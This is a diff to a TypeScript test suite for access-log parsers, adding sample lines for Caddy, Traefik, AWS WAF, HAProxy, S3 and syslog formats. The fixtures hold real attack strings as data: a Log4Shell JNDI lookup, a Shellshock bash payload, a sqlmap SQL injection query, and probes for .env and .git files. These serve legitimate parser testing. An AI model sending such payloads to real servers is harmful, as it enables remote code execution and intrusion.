@@ -188,6 +188,84 @@ const cases: Case[] = [
     line: '{"log":"203.0.113.10 - - [01/Jan/2024:00:00:01 +0000] \\"GET /cgi-bin/test.cgi HTTP/1.1\\" 404 0 \\"-\\" \\"-\\"\\n","stream":"stdout"}',
     expect: { peerIp: '203.0.113.10', path: '/cgi-bin/test.cgi', status: 404 },
   },
+  {
+    name: 'JSON: Caddy behind a proxy: client_ip (after trusted_proxies) wins over remote_ip',
+    format: 'json',
+    line: '{"level":"info","ts":1796083200.25,"logger":"http.log.access","request":{"remote_ip":"10.0.0.2","remote_port":"41000","client_ip":"203.0.113.40","proto":"HTTP/1.1","method":"GET","host":"shop.example.com","uri":"/.env","headers":{"User-Agent":["Go-http-client/1.1"]}},"status":404,"size":0}',
+    expect: { peerIp: '203.0.113.40', path: '/.env', status: 404, userAgent: 'Go-http-client/1.1', iso: '2026-12-01T00:00:00.250Z' },
+  },
+  {
+    name: 'JSON: Traefik with only ClientAddr (address and port)',
+    format: 'json',
+    line: '{"ClientAddr":"[2001:db8::7]:40522","RequestMethod":"GET","RequestPath":"/wp-login.php","RequestProtocol":"HTTP/2.0","DownstreamStatus":404,"StartUTC":"2026-12-01T12:00:00.5Z","request_User-Agent":"curl/8.4.0"}',
+    expect: { peerIp: '2001:db8::7', path: '/wp-login.php', status: 404, userAgent: 'curl/8.4.0', iso: '2026-12-01T12:00:00.500Z' },
+  },
+  {
+    name: 'JSON: AWS WAF (headers as a name/value list, no response status)',
+    format: 'json',
+    line: '{"timestamp":1796083200000,"formatVersion":1,"webaclId":"arn:aws:wafv2:eu-west-1:123456789012:regional/webacl/shop/1f2e","terminatingRuleId":"AWS-AWSManagedRulesKnownBadInputsRuleSet","action":"BLOCK","httpSourceName":"ALB","httpRequest":{"clientIp":"203.0.113.50","country":"NL","headers":[{"name":"Host","value":"shop.example.com"},{"name":"user-agent","value":"${jndi:ldap://203.0.113.50/a}"}],"uri":"/api/login","args":"next=%2F","httpVersion":"HTTP/1.1","httpMethod":"POST","requestId":"Root=1-abc"}}',
+    expect: {
+      peerIp: '203.0.113.50',
+      method: 'POST',
+      path: '/api/login',
+      query: 'next=%2F',
+      host: 'shop.example.com',
+      userAgent: '${jndi:ldap://203.0.113.50/a}',
+      status: 0,
+      iso: '2026-12-01T00:00:00.000Z',
+    },
+  },
+  {
+    name: 'Traefik common log format (combined plus request count, router, server URL, duration)',
+    format: 'combined',
+    line: '203.0.113.30 - - [01/Dec/2026:12:00:00 +0000] "GET /.git/config HTTP/1.1" 404 19 "-" "Mozilla/5.0 zgrab/0.x" 42 "websecure-shop@docker" "http://172.18.0.5:8080" 2ms',
+    expect: { peerIp: '203.0.113.30', path: '/.git/config', status: 404, userAgent: 'Mozilla/5.0 zgrab/0.x', iso: '2026-12-01T12:00:00.000Z' },
+  },
+  {
+    name: 'HAProxy httplog behind an RFC 3164 syslog header',
+    format: 'haproxy',
+    line: 'Dec  1 12:00:00 lb1 haproxy[2211]: 203.0.113.7:51022 [01/Dec/2026:12:00:00.123] fe_https~ be_web/web2 0/0/1/12/13 404 312 - - ---- 3/3/0/0/0 0/0 "GET /.env HTTP/1.1"',
+    expect: { peerIp: '203.0.113.7', method: 'GET', path: '/.env', status: 404, bytes: 312, iso: '2026-12-01T12:00:00.123Z' },
+  },
+  {
+    name: 'HAProxy httplog without a header (log stdout format raw), captured headers, escaped quote',
+    format: 'haproxy',
+    line: '203.0.113.8:40000 [01/Dec/2026:12:00:01.000] fe_http be_web/<NOSRV> 0/-1/-1/-1/0 -1 +0 - - CR-- 1/1/0/0/0 0/0 {shop.example.com|sqlmap/1.7} {} "GET /?id=1#22%20OR%201=1 HTTP/1.1"',
+    expect: { peerIp: '203.0.113.8', status: 0, bytes: 0, path: '/', query: 'id=1"%20OR%201=1' },
+  },
+  {
+    name: 'HAProxy httplog with an IPv6 client (port appended without brackets)',
+    format: 'haproxy',
+    line: '2001:db8:5::17:44310 [01/Dec/2026:12:00:02.000] fe_https~ be_web/web1 0/0/1/2/3 404 152 - - ---- 1/1/0/0/0 0/0 "GET /.git/HEAD HTTP/1.1"',
+    expect: { peerIp: '2001:db8:5::17', path: '/.git/HEAD', status: 404 },
+  },
+  {
+    name: 'S3 server access log',
+    format: 's3',
+    line: '5f1e0c7b9a4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f shop-assets [01/Dec/2026:12:00:00 +0000] 203.0.113.9 - 7A1C0D2E3F4B5A69 REST.GET.OBJECT backup.zip "GET /shop-assets/backup.zip?x=1 HTTP/1.1" 404 NoSuchKey 243 - 12 - "-" "python-requests/2.31.0" - bG9nIGxpbmUgd3JpdHRlbiBmb3IgdGVzdHM= SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader shop-assets.s3.eu-west-1.amazonaws.com TLSv1.2 - -',
+    expect: {
+      peerIp: '203.0.113.9',
+      path: '/shop-assets/backup.zip',
+      query: 'x=1',
+      status: 404,
+      bytes: 243,
+      userAgent: 'python-requests/2.31.0',
+      host: 'shop-assets.s3.eu-west-1.amazonaws.com',
+      iso: '2026-12-01T12:00:00.000Z',
+    },
+  },
+  {
+    name: 'Nginx combined through syslog (RFC 5424 with structured data)',
+    format: 'syslog:combined',
+    line: '<190>1 2026-12-01T12:00:00.000Z web1 nginx - - [meta sequenceId="7" note="a \\] b"] 198.51.100.21 - - [01/Dec/2026:12:00:00 +0000] "GET /cgi-bin/test.cgi HTTP/1.1" 404 153 "-" "() { :; }; /bin/bash -c id"',
+    expect: { peerIp: '198.51.100.21', path: '/cgi-bin/test.cgi', userAgent: '() { :; }; /bin/bash -c id', iso: '2026-12-01T12:00:00.000Z' },
+  },
+  {
+    name: "Nginx combined through syslog (rsyslog's ISO 8601 header)",
+    format: 'syslog:combined',
+    line: '2026-12-01T12:00:00.123456+00:00 web1 nginx: 198.51.100.22 - - [01/Dec/2026:12:00:00 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0"',
+    expect: { peerIp: '198.51.100.22', path: '/', status: 200, userAgent: 'Mozilla/5.0' },
+  },
 ];
 
 describe('format parsers', () => {
@@ -212,6 +290,15 @@ describe('format parsers', () => {
     ['json', '{broken', 'invalid-json'],
     ['json', '[1,2]', 'not-json'],
     ['cloudfront', 'yesterday\tnoon', 'format-mismatch'],
+    ['haproxy', '203.0.113.8:40000 [01/Dec/2026:12:00:01.000] fe_tcp be_tcp/srv1 0/0/5 212 -- 1/1/1/1/0 0/0', 'not-http'],
+    ['haproxy', 'Dec  1 12:00:00 web1 sshd[999]: Failed password for root from 203.0.113.5 port 40000 ssh2', 'format-mismatch'],
+    [
+      's3',
+      '5f1e0c7b9a4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f shop-assets [01/Dec/2026:03:00:00 +0000] - AmazonS3 8B2D1E0F3A4C5B67 S3.EXPIRE.OBJECT old/report.csv "-" - - - 1024 - - "-" "-" - - - - - - - -',
+      'not-http',
+    ],
+    ['s3', 'shop-assets [01/Dec/2026:12:00:00 +0000] 203.0.113.9 - x REST.GET.OBJECT k "GET / HTTP/1.1" 200', 'format-mismatch'],
+    ['syslog:combined', '198.51.100.22 - - [01/Dec/2026:12:00:00 +0000] "GET / HTTP/1.1" 200 612 "-" "-"', 'format-mismatch'],
   ];
   for (const [format, line, reason] of failures) {
     it(`${format} rejects "${line.slice(0, 30)}" as ${reason}`, () => {
@@ -223,7 +310,7 @@ describe('format parsers', () => {
 
   it('never throws on junk input', () => {
     const junk = ['', '"', '[', '\u0000\u0001', '{"a":', '- - - [', 'x'.repeat(10_000), '1.2.3.4 - - [', '"GET / HTTP/1.1"'];
-    for (const f of ['common', 'combined', 'vhost_combined', 'alb', 'elb', 'cloudfront', 'json']) {
+    for (const f of ['common', 'combined', 'vhost_combined', 'alb', 'elb', 'cloudfront', 'json', 'haproxy', 's3', 'syslog:common']) {
       for (const j of junk) assert.doesNotThrow(() => makeParser(f).parse(j), `${f} on ${JSON.stringify(j.slice(0, 20))}`);
     }
   });
@@ -250,7 +337,7 @@ describe('format parsers', () => {
     assert.throws(() => makeParser('apache:%h%t "%r"'), /nothing between them/);
     assert.throws(() => makeParser('apache:%h %t %Z'), /unknown LogFormat directive %Z/);
     assert.throws(() => makeParser('nginx:$remote_addr [$time_local] $'), /not followed by a variable name/);
-    assert.throws(() => makeParser('syslog'), /unknown format "syslog"/);
+    assert.throws(() => makeParser('syslog'), /unknown format "syslog".*syslog:<one of them>/);
   });
 });
 
